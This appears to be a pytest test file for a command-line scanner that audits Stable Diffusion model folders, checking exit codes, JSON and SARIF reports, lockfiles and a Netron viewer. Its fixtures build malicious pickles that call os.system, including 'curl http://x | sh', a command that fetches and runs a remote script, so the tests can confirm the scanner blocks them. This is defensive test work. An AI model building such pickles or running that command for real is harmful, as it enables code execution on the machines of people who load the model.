"""The audit CLI (python/model_security.py, console script sdsecure-audit): exit codes 0/1/2, one-line
errors, report formats, atomic --output, the lock subcommand and --netron."""

from __future__ import annotations

import json
import os
import pickle
import re
import shutil
import signal
import subprocess
import sys
import urllib.error
import urllib.request
from pathlib import Path

import pytest

from conftest import REPO_ROOT
from sdsecure.cli.audit import main, show_in_netron
from sdsecure.cli.common import atomic_write_text, run
from sdsecure.errors import SecurityError, UserError
from sdsecure.gate import netron as netron_mod
from sdsecure.gate.report import Finding, Report, Severity
from test_render import sarif_validator
from test_rules_pickle import System, torch_zip
from test_sd_repo import unet, write_sd_repo

SCRIPT = REPO_ROOT / "python" / "model_security.py"


def cli(*args: str, timeout: float = 300) -> subprocess.CompletedProcess:
    env = {**os.environ, "HF_HUB_OFFLINE": "1", "PYTHONPATH": str(REPO_ROOT / "python")}
    return subprocess.run([sys.executable, str(SCRIPT), *args], capture_output=True, text=True,
                          timeout=timeout, env=env, cwd=REPO_ROOT)


def assert_one_line_error(proc: subprocess.CompletedProcess) -> None:
    assert proc.returncode == 2, (proc.stdout, proc.stderr)
    assert "Traceback" not in proc.stderr and "Traceback" not in proc.stdout
    assert len(proc.stderr.strip().splitlines()) == 1, proc.stderr


@pytest.fixture()
def malicious_sd(tmp_path) -> Path:
    """A small SD repo whose UNet's cross-attention width (12) differs from the text encoder's (8), with a
    torch checkpoint whose pickle calls os.system next to it."""
    root = write_sd_repo(tmp_path / "evil-sd", un=unet(ctx_dim=12))
    (root / "unet" / "diffusion_pytorch_model.bin").write_bytes(
        torch_zip(pickle.dumps({"w": System("curl http://x | sh")}, protocol=2)))
    return root


@pytest.fixture()
def mismatched_sd(tmp_path) -> Path:
    """Only the (high) cross-attention mismatch: allowed by default, blocked by --strict."""
    return write_sd_repo(tmp_path / "odd-sd", un=unet(ctx_dim=12))


@pytest.fixture()
def benign_sd(tmp_path) -> Path:
    return write_sd_repo(tmp_path / "good-sd")


# --- the three required subprocess runs --------------------------------------------------------------

def test_embedded_model_is_allowed():
    proc = cli()                                  # default --model-id embedded
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert proc.stdout.startswith("VERDICT: ALLOWED")
    assert "Files hashed:" in proc.stdout and "unet/model.onnx" in proc.stdout


def test_malicious_folder_is_blocked_and_json_names_rule_file_and_node(malicious_sd):
    proc = cli("--model-id", str(malicious_sd), "--format", "json")
    assert proc.returncode == 1, proc.stderr
    doc = json.loads(proc.stdout)
    assert doc["verdict"] == "blocked" and doc["tool"]["name"] == "sdsecure"
    by_rule = {f["rule"]: f for f in doc["findings"]}
    pk = by_rule["PICKLE-DANGEROUS-GLOBAL"]
    assert pk["file"] == "unet/diffusion_pytorch_model.bin" and pk["severity"] == "critical"
    assert pk["where"].startswith("archive/data.pkl @ byte") and pk["evidence"]["call_args"] == ["curl http://x | sh"]
    cross = by_rule["SD-CROSS-ATTN-DIM"]
    assert cross["file"] == "unet/model.onnx" and cross["where"] == "main/attn2/to_k/MatMul (MatMul)"
    assert "attn2/to_k/MatMul" in cross["evidence"]["nodes"]


def test_nonexistent_path_is_one_line_exit_2(tmp_path):
    proc = cli("--model-id", str(tmp_path / "no-such-model"))
    assert_one_line_error(proc)
    assert proc.stdout == ""
    assert "no such file or folder" in proc.stderr


# --- more exit codes and policies (in process: faster) --------------------------------------------------

def test_bad_flag_is_one_line_exit_2():
    assert_one_line_error(cli("--format", "xml"))
    assert_one_line_error(cli("--strict", "--policy", "audit"))


def test_policies_decide_the_exit_code(mismatched_sd, malicious_sd, capsys):
    assert main(["--model-id", str(mismatched_sd)]) == 0
    assert main(["--model-id", str(mismatched_sd), "--strict"]) == 1
    assert main(["--model-id", str(mismatched_sd), "--policy", "strict"]) == 1
    assert main(["--model-id", str(malicious_sd), "--policy", "audit"]) == 0
    out = capsys.readouterr().out
    assert "VERDICT: BLOCKED  (strict policy: blocks medium and above)" in out


def test_single_file_model_id(tmp_path, capsys):
    f = tmp_path / "model.ckpt"
    f.write_bytes(pickle.dumps(System("id"), protocol=2))
    assert main(["--model-id", str(f), "--format", "json"]) == 1
    doc = json.loads(capsys.readouterr().out)
    assert [x["file"] for x in doc["findings"] if x["rule"] == "PICKLE-DANGEROUS-GLOBAL"] == ["model.ckpt"]


def test_json_flag_is_format_json(mismatched_sd, capsys):
    assert main(["--model-id", str(mismatched_sd), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["verdict"] == "allowed"


def test_sarif_output_validates(malicious_sd, capsys):
    assert main(["--model-id", str(malicious_sd), "--format", "sarif"]) == 1
    doc = json.loads(capsys.readouterr().out)
    sarif_validator().validate(doc)
    ids = {r["ruleId"] for r in doc["runs"][0]["results"]}
    assert {"PICKLE-DANGEROUS-GLOBAL", "SD-CROSS-ATTN-DIM"} <= ids


def test_output_file_is_written_atomically(malicious_sd, tmp_path, capsys):
    dest = tmp_path / "reports" / "new" / "report.json"
    assert main(["--model-id", str(malicious_sd), "--format", "json", "--output", str(dest)]) == 1
    out = capsys.readouterr().out
    assert out.startswith("VERDICT: BLOCKED") and str(dest) in out
    assert json.loads(dest.read_text())["verdict"] == "blocked"
    assert sorted(p.name for p in dest.parent.iterdir()) == ["report.json"]       # no temp file left


def test_output_to_a_directory_is_one_line_exit_2(tmp_path):
    assert_one_line_error(cli("--output", str(tmp_path)))


def test_atomic_write_replaces_and_reports_errors(tmp_path):
    p = tmp_path / "r.txt"
    p.write_text("old")
    atomic_write_text(p, "new")
    assert p.read_text() == "new"
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(UserError, match="cannot write"):
        atomic_write_text(blocker / "sub" / "r.txt", "x")


def test_run_maps_errors_to_exit_codes(capsys):
    def raiser(exc):
        def f(argv):
            raise exc
        return f

    report = Report("m", None, "default", findings=[Finding("X", Severity.CRITICAL, "f", "w", "bad", {})])
    assert run(raiser(UserError("bad model\nsecond line")), [], prog="p") == 2
    assert run(raiser(SecurityError(report)), [], prog="p") == 1
    assert run(raiser(KeyboardInterrupt()), [], prog="p") == 130
    assert run(raiser(PermissionError(13, "Permission denied", "/x")), [], prog="p") == 2
    assert run(raiser(RuntimeError("bug")), [], prog="p") == 2
    err = capsys.readouterr().err.splitlines()
    assert err[0] == "p: error: bad model second line"
    assert err[1].startswith("p: blocked: model 'm' blocked by default policy")
    assert err[2] == "p: interrupted"
    assert err[3] == "p: error: I/O error (/x): Permission denied"
    assert err[4].startswith("p: internal error: RuntimeError: bug (run with --debug")
    assert len(err) == 5


# --- lock -----------------------------------------------------------------------------------------------

def test_lock_then_verify_then_tamper(benign_sd, capsys):
    assert main(["lock", "--model-id", str(benign_sd)]) == 0
    lock_path = benign_sd / "sdsecure.lock.json"
    doc = json.loads(lock_path.read_text())
    assert set(doc["files"]) == {p.relative_to(benign_sd).as_posix() for p in benign_sd.rglob("*")
                                 if p.is_file() and p.name != "sdsecure.lock.json"}
    assert "locked" in capsys.readouterr().out

    assert main(["--model-id", str(benign_sd), "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)["lockfile"]["status"] == "verified"

    (benign_sd / "scheduler" / "scheduler_config.json").write_text(
        '{"_class_name": "PNDMScheduler", "num_train_timesteps": 1000, "beta_start": 0.001, "beta_end": 0.02}')
    assert main(["--model-id", str(benign_sd), "--format", "json"]) == 1
    assert any(f["rule"].startswith("LOCK-") for f in json.loads(capsys.readouterr().out)["findings"])


def test_lock_to_explicit_output_and_refuses_blocked_models(benign_sd, malicious_sd, tmp_path, capsys):
    out = tmp_path / "locks" / "pinned.lock.json"
    assert main(["lock", "--model-id", str(benign_sd), "--output", str(out)]) == 0
    assert json.loads(out.read_text())["files"]
    assert main(["lock", "--model-id", str(malicious_sd), "--output", str(tmp_path / "no.json")]) == 1
    assert not (tmp_path / "no.json").exists()
    assert "not locked" in capsys.readouterr().err


def test_lock_subprocess_errors_are_one_line(tmp_path):
    assert_one_line_error(cli("lock", "--model-id", str(tmp_path / "missing")))


# --- netron ---------------------------------------------------------------------------------------------

def _netron_report() -> Report:
    return Report("m", None, "default", findings=[
        Finding("SD-IO-CONTRACT", Severity.HIGH, "text_encoder/model.onnx", "graph inputs", "extra input", {}),
        Finding("BACKDOOR-TRIGGER", Severity.CRITICAL, "unet/model.onnx", "main//up/Where_7 (Where)", "trigger",
                {"path": ["sample", "/up/Equal_3", "/up/Where_7"], "node": "/up/Equal_3"}),
        Finding("SD-CROSS-ATTN-DIM", Severity.HIGH, "unet/model.onnx", "attn2/to_k/MatMul", "width",
                {"nodes": ["attn2/to_k/MatMul", "attn2/to_v/MatMul"]}),
        Finding("BACKDOOR-EXPLAINED", Severity.INFO, "vae_decoder/model.onnx", "main/ArgMax (ArgMax)", "ok",
                {"explained": True}),
        Finding("PICKLE-DANGEROUS-GLOBAL", Severity.CRITICAL, "x.pkl", "byte 2", "pickle", {}),
    ])


def test_netron_picks_the_most_flagged_onnx_file_and_lists_nodes():
    rep = _netron_report()
    assert netron_mod.flagged_onnx_file(rep) == "unet/model.onnx"
    assert netron_mod.nodes_to_inspect(rep, "unet/model.onnx") == [
        ("/up/Where_7", "critical BACKDOOR-TRIGGER"), ("/up/Equal_3", "critical BACKDOOR-TRIGGER"),
        ("sample", "critical BACKDOOR-TRIGGER"), ("attn2/to_k/MatMul", "high SD-CROSS-ATTN-DIM"),
        ("attn2/to_v/MatMul", "high SD-CROSS-ATTN-DIM")]
    assert netron_mod.flagged_onnx_file(Report("m", None, "default")) is None


def test_netron_missing_prints_install_hint_and_nodes(mismatched_sd, monkeypatch, capsys):
    from sdsecure.gate import audit

    vm = audit(str(mismatched_sd), progress=False)
    monkeypatch.setitem(sys.modules, "netron", None)           # `import netron` raises ImportError
    show_in_netron(vm)
    out = capsys.readouterr().out
    assert "netron: flagged file unet/model.onnx" in out
    assert "  attn2/to_k/MatMul    [high SD-CROSS-ATTN-DIM]" in out
    assert "pip install 'sdsecure[netron]'" in out


def test_netron_serves_verified_bytes_on_localhost_and_stops(mismatched_sd):
    import netron  # noqa: F401 - the `netron` extra is part of the test extra

    env = {**os.environ, "HF_HUB_OFFLINE": "1", "PYTHONPATH": str(REPO_ROOT / "python")}
    proc = subprocess.Popen([sys.executable, str(SCRIPT), "--model-id", str(mismatched_sd), "--netron"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env, cwd=REPO_ROOT)
    try:
        lines = []
        for line in proc.stdout:                              # until the server announces itself
            lines.append(line)
            if line.startswith("netron: serving"):
                break
        text = "".join(lines)
        assert "  attn2/to_k/MatMul    [high SD-CROSS-ATTN-DIM]" in text, text + proc.stderr.read()
        url = re.search(r"at (http://\S+)", lines[-1]).group(1)
        assert url.startswith("http://127.0.0.1:")
        page = urllib.request.urlopen(url + "/", timeout=10).read()
        assert b"<html" in page.lower()
        served = urllib.request.urlopen(url + "/data/model.onnx", timeout=10).read()
        assert served == (mismatched_sd / "unet" / "model.onnx").read_bytes()
        for other in ("model_index.json", "../model_index.json", "unet/model.onnx"):
            with pytest.raises(urllib.error.HTTPError):       # nothing but the verified file is served
                urllib.request.urlopen(f"{url}/data/{other}", timeout=10)
        proc.send_signal(signal.SIGINT)
        rest, err = proc.communicate(timeout=30)
        assert proc.returncode == 0, err                      # the verdict's code: allowed by default
        assert "netron: stopped" in rest and "Traceback" not in err
        with pytest.raises(urllib.error.URLError):
            urllib.request.urlopen(url + "/", timeout=5)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()


def test_netron_wait_stops_on_sigint_even_when_started_with_sigint_ignored():
    # A non-interactive shell starts background jobs with SIGINT ignored, and Python keeps it so: the
    # server must still stop on Ctrl-C / SIGINT (CI launched that way hung in the test above).
    import time

    code = "from sdsecure.gate.netron import wait_forever\nprint('ready', flush=True)\nwait_forever()"
    env = {**os.environ, "PYTHONPATH": str(REPO_ROOT / "python")}
    proc = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            env=env, preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_IGN))
    try:
        assert proc.stdout.readline().strip() == "ready"
        deadline = time.monotonic() + 20
        while proc.poll() is None and time.monotonic() < deadline:   # again until the handler is in place
            proc.send_signal(signal.SIGINT)
            time.sleep(0.2)
        assert proc.poll() is not None, "SIGINT did not stop wait_forever"
        assert "KeyboardInterrupt" in proc.stderr.read()
    finally:
        if proc.poll() is None:
            proc.kill()
        proc.wait()


def test_console_script_is_declared():
    text = (REPO_ROOT / "pyproject.toml").read_text()
    assert 'sdsecure-audit = "sdsecure.cli.audit:main"' in text
    exe = shutil.which("sdsecure-audit", path=str(Path(sys.executable).parent))
    assert exe, "pip install -e . installs the console script next to the interpreter"
    proc = subprocess.run([exe, "--version"], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0 and "sdsecure" in proc.stdout
